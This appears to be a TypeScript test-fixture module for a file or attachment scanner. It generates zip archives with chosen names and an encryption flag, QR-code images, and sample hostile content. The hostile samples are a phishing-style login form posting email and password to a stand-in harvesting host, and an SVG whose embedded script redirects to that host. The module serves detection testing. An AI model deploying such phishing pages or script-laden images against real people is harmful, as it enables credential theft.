/** Files of the set, made on the spot and harmless: what makes them look dangerous is their form alone. */
import { encode as encodeJpeg } from 'jpeg-js';
import { PNG } from 'pngjs';
import qrcode from 'qrcode';

/** A zip with one stored entry of each name; `locked` sets the flag of encryption. */
export function zip(names: readonly string[], locked = false): Buffer {
  return Buffer.concat(
    names.map(name => {
      const content = Buffer.from('contenu');
      const header = Buffer.alloc(30);
      header.writeUInt32LE(0x04034b50, 0);
      header.writeUInt16LE(20, 4);
      header.writeUInt16LE(locked ? 1 : 0, 6);
      header.writeUInt32LE(content.length, 18);
      header.writeUInt32LE(content.length, 22);
      header.writeUInt16LE(Buffer.byteLength(name), 26);
      return Buffer.concat([header, Buffer.from(name), content]);
    }),
  );
}

export const signInPage =
  '<!doctype html><html><body><h1>Connexion</h1><form action="https://recolte.serveur.test/p"><input name="email"><input type="password" name="mdp"><button>Ouvrir</button></form></body></html>';

export const drawing =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://recolte.serveur.test"</script></svg>';

/** A code for `text`, `scale` pixels a module. */
export function qrPng(text: string, scale = 4): Buffer {
  const { width, data } = qrPixels(text, scale);
  const png = new PNG({ width, height: width });
  data.copy(png.data);
  return PNG.sync.write(png);
}

export function qrJpeg(text: string, scale = 4): Buffer {
  const { width, data } = qrPixels(text, scale);
  return encodeJpeg({ width, height: width, data }, 70).data;
}

function qrPixels(text: string, scale: number): { width: number; data: Buffer } {
  const { modules } = qrcode.create(text, { errorCorrectionLevel: 'M' });
  const quiet = 4;
  const width = (modules.size + 2 * quiet) * scale;
  const data = Buffer.alloc(width * width * 4, 255);
  for (let y = 0; y < width; y++) {
    for (let x = 0; x < width; x++) {
      const [row, column] = [Math.floor(y / scale) - quiet, Math.floor(x / scale) - quiet];
      const inside = row >= 0 && column >= 0 && row < modules.size && column < modules.size;
      if (inside && modules.get(row, column)) data.fill(0, (y * width + x) * 4, (y * width + x) * 4 + 3);
    }
  }
  return { width, data };
}
